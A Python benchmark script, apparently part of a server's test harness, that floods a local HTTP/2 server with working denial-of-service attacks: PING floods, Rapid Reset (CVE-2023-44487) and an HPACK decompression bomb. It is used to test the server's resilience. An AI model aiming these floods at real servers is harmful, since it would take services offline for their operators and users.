# SPDX-License-Identifier: Apache-2.0
"""A hostile client of a server on this machine, for the scenario `abuse`; a process of its own.

    hostile.py KIND PORT SECONDS

floods one connection until the server closes it, then the next one, and prints as JSON how many
frames it sent on how many connections. It ends after SECONDS."""

from __future__ import annotations

import itertools
import json
import socket
import struct
import sys
import time
from collections.abc import Callable, Iterator

from benchmarks.harness import http2

_CANCEL = struct.pack(">I", 8)

_FRAMES_AT_A_TIME = 200
_PATIENCE_SECONDS = 1
_SECONDS_BETWEEN_CONNECTIONS = 0.005  # So that their number is bounded, too.


def ping_flood() -> Iterator[bytes]:
    """Frames that ask for an answer each."""
    return itertools.repeat(http2.frame(http2.PING, 0, 0, b"01234567"))


def rapid_reset() -> Iterator[bytes]:
    """Calls that are cancelled as soon as they are made (CVE-2023-44487)."""
    for stream in itertools.count(1, 2):
        yield http2.get(stream) + http2.frame(http2.RST_STREAM, 0, stream, _CANCEL)


def hpack_bomb() -> Iterator[bytes]:
    """Heads of 16 KiB that stand for 60 MiB: a field of 4,000 bytes is remembered once, and then
    named by a byte each."""
    remembered = b"\x40\x01x\x7f\xa1\x1e" + b"v" * 4_000
    for stream in itertools.count(1, 2):
        block = (remembered if stream == 1 else b"") + b"\xbe" * 12_000
        yield http2.frame(http2.HEADERS, http2.END_HEADERS | http2.END_STREAM, stream, block)


KINDS: dict[str, Callable[[], Iterator[bytes]]] = {
    "ping_flood": ping_flood,
    "rapid_reset": rapid_reset,
    "hpack_bomb": hpack_bomb,
}


def _flood(port: int, frames: Iterator[bytes], give_up_at: float) -> int:
    """Sends frames on a connection until it is closed, or until then. How many they were."""
    sent = 0
    with socket.create_connection(("127.0.0.1", port), timeout=_PATIENCE_SECONDS) as connection:
        # Leaves nothing behind when it is closed.
        connection.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
        try:
            connection.sendall(http2.PREFACE)
            while time.monotonic() < give_up_at:
                connection.sendall(b"".join(itertools.islice(frames, _FRAMES_AT_A_TIME)))
                sent += _FRAMES_AT_A_TIME
                _drop_what_came(connection)
        except OSError:
            pass  # Thrown out, as it should be.
    return sent


def _drop_what_came(connection: socket.socket) -> None:
    connection.setblocking(False)  # With a timeout, Python waits for what MSG_DONTWAIT would not.
    try:
        if not connection.recv(1 << 20):
            raise ConnectionResetError
    except BlockingIOError:
        pass
    connection.settimeout(_PATIENCE_SECONDS)


def main(kind: str, port: int, seconds: float) -> None:
    give_up_at = time.monotonic() + seconds
    connections = frames = 0
    while time.monotonic() < give_up_at:
        frames += _flood(port, KINDS[kind](), give_up_at)
        connections += 1
        time.sleep(_SECONDS_BETWEEN_CONNECTIONS)
    print(json.dumps({"connections": connections, "frames": frames}))


if __name__ == "__main__":
    main(sys.argv[1], int(sys.argv[2]), float(sys.argv[3]))
